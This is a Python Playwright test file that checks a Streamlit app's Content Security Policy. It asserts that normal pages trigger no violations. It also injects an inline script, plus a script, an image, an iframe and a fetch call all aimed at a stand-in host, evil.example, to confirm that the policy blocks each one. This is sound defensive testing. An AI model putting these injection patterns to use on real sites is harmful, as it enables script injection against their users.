"""The pages under their own security policy, which the other tests' browser does not enforce:
nothing that a page does is forbidden to it, and what it never does is.
"""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.looking import becomes
from tests.browser.test_accessibility import STATES
from tests.support.amount import also
from tests.support.browser import new_context
from tests.support.server import Server

pytestmark = pytest.mark.browser

# Said by the browser for whatever the policy forbids. Streamlit's protobuf tries WebAssembly for
# numbers of 64 bits, and does without.
WATCH = """
window.forbidden = [];
addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sourceFile }) => {
  if (blockedURI === "wasm-eval" && /protobuf/.test(sourceFile)) return;
  forbidden.push([violatedDirective, blockedURI, sourceFile]);
});
"""


@pytest.fixture(scope="module")
def page(browser: Browser) -> Iterator[Page]:
    """One for all: its caches save most of each page."""
    context = new_context(browser, viewport={"width": 1280, "height": 2400})
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


def shown(page: Page, url: str) -> None:
    page.goto(url)
    drawn(page)
    page.wait_for_timeout(500)


def drawn(page: Page) -> None:
    expect(page.locator("h1").first).to_be_visible()
    expect(page.locator('.stApp[data-test-script-state="notRunning"]')).to_be_attached()
    expect(page.locator('.gl-lab:not([data-ready="true"])')).to_have_count(0)


# A sketch brings a script of its own.
PAGES = {"/", STATES["sketch"][0]}
MORE = {path for path, *_ in STATES.values()} - PAGES


@pytest.mark.parametrize("path", [*sorted(PAGES), *also(*sorted(MORE))])
def test_no_page_needs_what_the_policy_forbids(app: Server, page: Page, path: str) -> None:
    shown(page, app.url + path)
    assert page.evaluate("forbidden") == []


def test_a_script_from_elsewhere_a_frame_and_a_form_are_forbidden(app: Server, page: Page) -> None:
    shown(page, app.url + "/glossary")
    page.evaluate("""() => {
      const add = (name, set) =>
        document.body.append(Object.assign(document.createElement(name), set));
      add("script", { textContent: "window.ran = 1" });
      add("script", { src: "https://evil.example/x.js" });
      add("img", { src: "https://evil.example/x.png" });
      add("iframe", { src: "https://evil.example/" });
      fetch("https://evil.example/").catch(() => {});
    }""")
    kinds = {"script-src", "img-src", "frame-src", "connect-src"}
    becomes(
        page, lambda: {kind.split("-elem")[0] for kind, *_ in page.evaluate("forbidden")}, kinds
    )
    assert page.evaluate("window.ran") is None
